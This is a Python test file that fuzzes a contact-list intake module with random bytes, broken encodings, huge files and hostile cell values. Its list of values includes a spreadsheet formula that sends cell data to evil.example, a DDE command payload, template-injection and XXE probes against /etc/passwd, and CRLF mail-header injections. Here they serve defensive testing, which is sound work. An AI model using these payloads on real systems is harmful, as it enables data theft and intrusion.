"""Hostile and broken contact files: random bytes, truncated UTF-16, NUL bytes, formulas,
template tags, XML, CR/LF in every field, a 200 MB file and a million rows. Each is rejected
or loaded exactly as docs/intake.md says, the file is kept byte for byte (its sha256 in
processed/ or rejected/ is the dropped file's), and memory stays bounded (peak RSS of an
intake process, not a timing)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import uuid
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from circular.contacts import ProblemKind, intake_file
from circular.contacts.problems import problem_lines
from circular.countries import member_states
from circular.ledger import Contact, IntakeStatus, Ledger
from circular.settings import Settings, load_settings

NOW = datetime(2021, 2, 3, 9, 30, tzinfo=UTC)
CAMPAIGN = "cl-21-4"
KINDS = {str(kind) for kind in ProblemKind}
#: Peak resident memory allowed to an intake process taking in the big files.
MEMORY_BOUND = 400 * 1024 * 1024


def _settings(root: Path, **changes: object) -> Settings:
    return load_settings(
        data_dir=root / "data",
        drop_folder=root / "inbox",
        processed_folder=root / "processed",
        rejected_folder=root / "rejected",
        **changes,
    )


def _sha256(path: Path) -> str:
    digest = hashlib.sha256()
    with path.open("rb") as stream:
        while block := stream.read(1 << 20):
            digest.update(block)
    return digest.hexdigest()


def _take_in(root: Path, ledger: Ledger, data: bytes, name: str = "contacts.csv", **kw: object):  # type: ignore[no-untyped-def]
    """Drop ``data`` and take it in; check the file was kept byte for byte where it went."""
    settings = _settings(root, **kw)
    settings.drop_folder.mkdir(parents=True, exist_ok=True)
    path = settings.drop_folder / name
    path.write_bytes(data)
    result = intake_file(path, CAMPAIGN, settings, ledger, now=NOW)
    assert not path.exists()
    assert result.stored_path is not None
    folder = (
        settings.rejected_folder
        if result.status == IntakeStatus.REJECTED
        else settings.processed_folder
    )
    assert result.stored_path.parent == folder / CAMPAIGN
    assert _sha256(result.stored_path) == hashlib.sha256(data).hexdigest() == result.sha256
    if result.status == IntakeStatus.REJECTED:
        report = Path(f"{result.stored_path}.report.txt").read_text("utf-8")
        assert report == result.report
        _assert_report_is_clean(report)
    return result


def _assert_report_is_clean(report: str) -> None:
    """Every problem line names a known kind, and no value breaks a line or hides a
    control character."""
    lines = problem_lines(report)
    assert lines
    for line in lines:
        if line.startswith("... and "):
            continue
        assert any(f": {kind}: " in line for kind in KINDS), line
        assert all(char.isprintable() for char in line), line


def _contacts(ledger: Ledger) -> dict[str, Contact]:
    with ledger.session() as session:
        return {c.iso3: c for c in session.scalars(select(Contact))}


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


_HYPOTHESIS = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@_HYPOTHESIS
@given(st.binary(max_size=3000))
def test_random_bytes_are_refused_and_kept_byte_for_byte(
    tmp_path: Path, ledger: Ledger, data: bytes
) -> None:
    result = _take_in(tmp_path / uuid.uuid4().hex, ledger, data)
    # Random bytes are not a contact list: a country and an e-mail column cannot both appear.
    assert result.status == IntakeStatus.REJECTED
    event(result.problems[0].kind)


VALID = _csv(
    [
        ["country", "email", "name"],
        ["FRA", "ministre@gouv.example", "Jean Dupont"],
        ["DEU", "minister@bund.example", "Anna Schmidt"],
        ["BRA", "ministro@gov.example", "Ana Souza"],
    ]
)


@_HYPOTHESIS
@given(
    st.lists(
        st.tuples(st.integers(0, len(VALID)), st.binary(min_size=1, max_size=12)),
        min_size=1,
        max_size=4,
    )
)
def test_random_bytes_inside_a_valid_file_load_it_or_refuse_it_whole(
    tmp_path: Path, ledger: Ledger, insertions: list[tuple[int, bytes]]
) -> None:
    data = VALID
    for at, chunk in insertions:
        data = data[:at] + chunk + data[at:]
    before = _contacts(ledger)
    result = _take_in(tmp_path / uuid.uuid4().hex, ledger, data)
    event(str(result.status))
    after = _contacts(ledger)
    if result.status != IntakeStatus.LOADED:
        assert after.keys() == before.keys()  # all or nothing
        return
    for contact in after.values():
        assert "@" in contact.email
        assert not any(ord(char) < 32 or 127 <= ord(char) < 160 for char in contact.email)


#: Values that are data, never instructions: stored as written (docs/intake.md).
HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "<w:p><w:r><w:t>injected</w:t></w:r></w:p>",
    "]]><!--",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "line one\r\nline two",
    "cr\ronly",
    "lf\nonly",
    'quote " and ""double""',
    "tab\tinside",
    "\u202eRTL override",
    "Ministère — 外交部 — وزارة",
]

_text = st.one_of(
    st.sampled_from(HOSTILE_VALUES),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
        max_size=30,
    ),
)
TEXT_COLUMNS = ["salutation", "title", "name", "position", "ministry"]


@_HYPOTHESIS
@given(st.lists(st.lists(_text, min_size=6, max_size=6), min_size=1, max_size=3))
def test_formulas_tags_xml_and_line_breaks_are_loaded_as_written(
    tmp_path: Path, ledger: Ledger, values: list[list[str]]
) -> None:
    countries = ["FRA", "DEU", "BRA"]
    rows = [["country", "email", *TEXT_COLUMNS, "Protocol note"]]
    for iso3, cells in zip(countries, values, strict=False):
        rows.append([iso3, f"minister@{iso3.lower()}.example", *cells])
    result = _take_in(tmp_path / uuid.uuid4().hex, ledger, _csv(rows))
    assert result.status in (IntakeStatus.LOADED, IntakeStatus.DUPLICATE), result.report
    loaded = _contacts(ledger)
    for iso3, cells in zip(countries, values, strict=False):
        contact = loaded[iso3]
        for column, value in zip(TEXT_COLUMNS, cells, strict=False):
            # Surrounding blanks are trimmed; everything inside is kept as written.
            assert getattr(contact, column) == value.strip(), column
        assert contact.extra["Protocol note"] == cells[5]


def test_a_line_break_in_every_field(tmp_path: Path, ledger: Ledger) -> None:
    # In the text fields: data, loaded as written.
    text = _csv(
        [
            ["country", "email", "cc", "language", *TEXT_COLUMNS],
            ["FRA", "a@gouv.example", "b@gouv.example", "fr", *[f"x\r\n{c}" for c in TEXT_COLUMNS]],
        ]
    )
    loaded = _take_in(tmp_path / "text", ledger, text)
    assert loaded.status == IntakeStatus.LOADED
    assert _contacts(ledger)["FRA"].ministry == "x\r\nministry"
    # In the fields that become addresses or keys: refused, each named with its row.
    keys = _csv(
        [
            ["country", "email", "cc", "language"],
            ["FR\r\nA", "a@gouv.example", "", ""],
            ["DEU", "a@bund.example\r\nBcc: victim@evil.example", "", ""],
            ["BRA", "a@gov.example", "b@gov.example\r\nBcc: victim@evil.example", ""],
            ["ESP", "a@gob.example", "", "es\r\nen"],
        ]
    )
    rejected = _take_in(tmp_path / "keys", ledger, keys)
    assert rejected.status == IntakeStatus.REJECTED
    found = [(p.row, p.column, p.kind) for p in rejected.problems]
    assert found == [
        (2, "country", ProblemKind.UNKNOWN_COUNTRY),
        (3, "email", ProblemKind.INVALID_EMAIL),
        (4, "cc", ProblemKind.INVALID_EMAIL),
        (5, "language", ProblemKind.UNSUPPORTED_LANGUAGE),
    ]
    assert "\\r\\nBcc: victim@evil.example" in rejected.report


@pytest.mark.parametrize(
    "data",
    [
        b"\r\x01",  # a lone CR in the header once made the csv module raise out of intake
        b"country,email,name\r\nFRA,ministre@gouv.example,Dupont, Jean\r\n",
        b"country,email,name\nFRA,ministre@gouv.example,Jean,\nDEU,m@bund.example,Anna\n",
    ],
    ids=["lone CR", "first row one cell longer", "first row with a trailing comma"],
)
def test_found_by_fuzzing_refused_not_raised_nor_half_read(
    tmp_path: Path, ledger: Ledger, data: bytes
) -> None:
    # The first row longer than the header: pandas only warned and dropped " Jean".
    result = _take_in(tmp_path, ledger, data)
    assert result.status == IntakeStatus.REJECTED
    assert _contacts(ledger) == {}


def test_a_cell_of_megabytes_is_refused(tmp_path: Path, ledger: Ledger) -> None:
    data = VALID.replace(b"Jean Dupont", b"J" * (5 * 1024 * 1024))
    result = _take_in(tmp_path, ledger, data)
    assert result.status == IntakeStatus.REJECTED
    [problem] = result.problems
    assert (problem.kind, problem.row, problem.column) == (ProblemKind.VALUE_TOO_LONG, 2, "name")
    assert len(result.report) < 2000  # the value itself is not copied into the report


def test_nul_bytes_are_refused(tmp_path: Path, ledger: Ledger) -> None:
    utf8 = VALID.replace(b"Jean Dupont", b"Jean\x00Dupont")
    result = _take_in(tmp_path / "utf8", ledger, utf8)
    assert result.status == IntakeStatus.REJECTED
    assert "NUL bytes" in result.report
    utf16 = "\ufeffcountry\temail\tname\r\nFRA\tministre@gouv.example\tJean\x00Dupont\r\n"
    result = _take_in(tmp_path / "utf16", ledger, utf16.encode("utf-16-le"), name="c.txt")
    assert result.status == IntakeStatus.REJECTED
    assert "NUL characters" in result.report


UTF16 = (
    "\ufeffcountry\temail\tname\r\n"
    "CHN\tminister@miit.example\t\U00020000 Zhang Wei\r\n"
    "FRA\tministre@gouv.example\tJean Dupont\r\n"
).encode("utf-16-le")


def test_truncated_utf16_is_refused(tmp_path: Path, ledger: Ledger) -> None:
    whole = _take_in(tmp_path / "whole", ledger, UTF16, name="c.txt")
    assert whole.status == IntakeStatus.LOADED  # the cut, not the content, is refused below
    assert _contacts(ledger)["CHN"].name == "\U00020000 Zhang Wei"
    high_surrogate = UTF16.index("\U00020000".encode("utf-16-le")) + 2
    for label, cut in (("odd byte count", UTF16[:-1]), ("in a pair", UTF16[:high_surrogate])):
        result = _take_in(tmp_path / label, ledger, cut, name="c.txt")
        assert result.status == IntakeStatus.REJECTED, label
        assert [p.kind for p in result.problems] == [ProblemKind.UNREADABLE_ENCODING], label
        assert "UTF-16" in result.report, label


def test_the_size_limit_is_configurable(tmp_path: Path, ledger: Ledger) -> None:
    over = _take_in(tmp_path / "over", ledger, VALID, max_contact_file_bytes=len(VALID) - 1)
    assert over.status == IntakeStatus.REJECTED
    assert [p.kind for p in over.problems] == [ProblemKind.FILE_TOO_LARGE]
    assert "CIRCULAR_MAX_CONTACT_FILE_BYTES" in over.report
    at = _take_in(tmp_path / "at", ledger, VALID, max_contact_file_bytes=len(VALID))
    assert at.status == IntakeStatus.LOADED


def _write_big(path: Path, lines: object, header: str = "country,email,name\n") -> str:
    """Write a file line by line (never held in memory); returns its sha256."""
    digest = hashlib.sha256()
    with path.open("wb") as stream:
        buffer = [header.encode()]
        size = len(buffer[0])
        for line in lines:  # type: ignore[attr-defined]
            buffer.append(line)
            size += len(line)
            if size > 1 << 20:
                block = b"".join(buffer)
                digest.update(block)
                stream.write(block)
                buffer, size = [], 0
        block = b"".join(buffer)
        digest.update(block)
        stream.write(block)
    return digest.hexdigest()


@pytest.mark.slow
def test_a_200_mb_file_and_a_million_rows_in_bounded_memory(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    campaign_folder = settings.drop_folder / CAMPAIGN
    campaign_folder.mkdir(parents=True)
    states = [state.iso3 for state in member_states()]
    row = b"FRA,ministre@gouv.example,Jean Dupont\n"
    big = _write_big(campaign_folder / "a-200mb.csv", (row for _ in range(200 * 2**20 // len(row))))
    million = _write_big(
        campaign_folder / "b-million.csv",
        (
            f"{iso3},m{i}@{iso3.lower()}.example,M {i}\n".encode()
            for i, iso3 in ((i, states[i % len(states)]) for i in range(1_000_000))
        ),
    )
    blank = _write_big(
        campaign_folder / "c-million-blank.csv",
        (
            *(f"{iso3},minister@{iso3.lower()}.example,Minister\n".encode() for iso3 in states),
            *(b",,\n" for _ in range(1_000_000 - len(states))),
        ),
    )
    # Distinct modification times, so that the files are taken in this order.
    for offset, name in enumerate(("a-200mb.csv", "b-million.csv", "c-million-blank.csv")):
        os.utime(campaign_folder / name, (1_600_000_000 + offset, 1_600_000_000 + offset))
    environment = {
        **os.environ,
        "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
        "CIRCULAR_DATA_DIR": str(settings.data_dir),
        "CIRCULAR_DROP_FOLDER": str(settings.drop_folder),
        "CIRCULAR_PROCESSED_FOLDER": str(settings.processed_folder),
        "CIRCULAR_REJECTED_FOLDER": str(settings.rejected_folder),
        # Intake takes files only for a campaign it knows (its folder under letters/).
        "CIRCULAR_LETTERS_DIR": str(settings.letters_dir.resolve()),
        "CIRCULAR_DATABASE_URL": f"sqlite:///{tmp_path / 'ledger.sqlite3'}",
    }
    completed = subprocess.run(
        [sys.executable, "-m", "tests.support.intake_driver"],
        env=environment,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=600,
        check=True,
    )
    output = json.loads(completed.stdout)
    too_large, duplicates, blanks = output["results"]

    assert too_large["status"] == IntakeStatus.REJECTED
    assert "file too large" in too_large["report"]
    assert _sha256(Path(too_large["stored_path"])) == big == too_large["sha256"]

    assert duplicates["status"] == IntakeStatus.REJECTED
    assert duplicates["rows"] == 1_000_000
    lines = problem_lines(duplicates["report"])
    assert len(lines) == 1001  # 1,000 listed, then the count of the rest
    assert lines[-1] == f"... and {1_000_000 - len(states) - 1000} more problems not listed"
    assert _sha256(Path(duplicates["stored_path"])) == million == duplicates["sha256"]

    assert blanks["status"] == IntakeStatus.LOADED
    assert blanks["rows"] == len(states)  # blank rows skipped (and counted for row numbers)
    assert _sha256(Path(blanks["stored_path"])) == blank == blanks["sha256"]

    assert output["peak_rss_bytes"] < MEMORY_BOUND, output["peak_rss_bytes"]
    for result in output["results"]:
        Path(result["stored_path"]).unlink()  # 250 MB that pytest would keep for 3 runs
    # For docs/reliability.md.
    print(f"peak RSS of the intake process: {output['peak_rss_bytes'] / 2**20:.0f} MiB")
